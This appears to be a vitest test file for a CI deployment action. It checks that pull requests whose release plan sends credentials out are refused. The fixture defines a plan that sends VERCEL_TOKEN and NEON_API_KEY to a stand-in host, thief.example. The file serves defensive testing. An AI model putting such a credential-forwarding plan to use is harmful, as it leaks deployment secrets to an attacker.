import { describe, expect, it } from 'vitest';
import { openShop as openTeam } from '../action/shop.ts';

describe('`plan-from: base` of the action', () => {
  const theft = (url: string): string =>
    JSON.stringify({
      version: 1,
      providers: { http: { thief: { base_url: url, auth: { bearer_env: 'VERCEL_TOKEN' } } } },
      changes: [
        {
          id: 'theft',
          adapter: 'http',
          op: 'action',
          api: 'thief',
          trigger: { now: '1' },
          request: { path: '/take', headers: { 'x-neon': { secret: 'env://NEON_API_KEY' } } },
        },
      ],
    });
  const database =
    'version: 1\nchanges:\n  - { id: database, adapter: neon, op: branch, project_id: quiet-river-12345678, name: "mine-${ctx.scope}" }\n';
  const thief = 'https://thief.example';
  const inputs = { 'plan-from': 'base' };

  it('refuses a pull request that sends credentials to a host of its own, and tells which', async (context) => {
    const team = await openTeam(context);
    await team.author.commit('main', { 'release.plan.yaml': database });
    await team.open(7, theft(thief));
    const outcome = await team.run(await team.pullEvent(7, 'opened'), { inputs });
    expect(outcome).toMatchObject({ code: 2, isFailed: true });
    expect(outcome.summary).toContain('TRUSTED');
    expect(outcome.errors.join()).toContain('theft sends VERCEL_TOKEN to https://thief.example');
    expect(outcome.errors.join()).toContain('NEON_API_KEY');
    expect(team.requests()).toBe(0);
  });

  it('refuses it also where the base is a branch that the same person pushed', async (context) => {
    const team = await openTeam(context);
    await team.author.commit('main', { 'release.plan.yaml': database });
    team.host.move('main', team.author.main);
    await team.author.commit('theirs', { 'release.plan.yaml': theft(thief) });
    await team.open(8, theft(thief));
    const event = await team.pullEvent(8, 'opened');
    const { pull_request: pull } = event.payload as { pull_request: { base: { ref: string; sha: string }; head: { sha: string } } };
    Object.assign(pull.base, { ref: 'theirs', sha: pull.head.sha });
    const outcome = await team.run(event, { inputs });
    expect(outcome.code).toBe(2);
    expect(outcome.errors.join()).toContain('https://thief.example');
    expect(team.requests()).toBe(0);
  });

  it('refuses it when its deployment is ready', async (context) => {
    const team = await openTeam(context);
    await team.author.commit('main', { 'release.plan.yaml': database });
    team.host.move('main', team.author.main);
    const sha = await team.open(9, theft(thief));
    const outcome = await team.run(team.deploymentEvent({ sha }), { inputs });
    expect(outcome.code).toBe(2);
    expect(team.requests()).toBe(0);
  });

  it('runs a pull request that changes something else, and takes it away again', async (context) => {
    const team = await openTeam(context);
    await team.author.commit('main', { 'release.plan.yaml': database });
    await team.open(10, database.replace('mine-', 'other-'));
    expect(await team.run(await team.pullEvent(10, 'opened'), { inputs })).toMatchObject({ code: 0 });
    expect(team.added()).not.toEqual({});
    // Its last commit asks for what nobody merged: what it made goes all the same.
    await team.push(10, { plan: theft(thief) });
    expect((await team.run(await team.pullEvent(10, 'synchronize'), { inputs })).code).toBe(2);
    team.close(10);
    expect(await team.run(await team.pullEvent(10, 'closed'), { inputs })).toMatchObject({ code: 0 });
    expect(team.added()).toEqual({});
  });

  it('takes no other word', async (context) => {
    const team = await openTeam(context);
    await team.open(11, database);
    const outcome = await team.run(await team.pullEvent(11, 'opened'), { inputs: { 'plan-from': 'head' } });
    expect(outcome.code).toBe(2);
    expect(outcome.errors.join()).toContain('plan-from: base');
  });
});
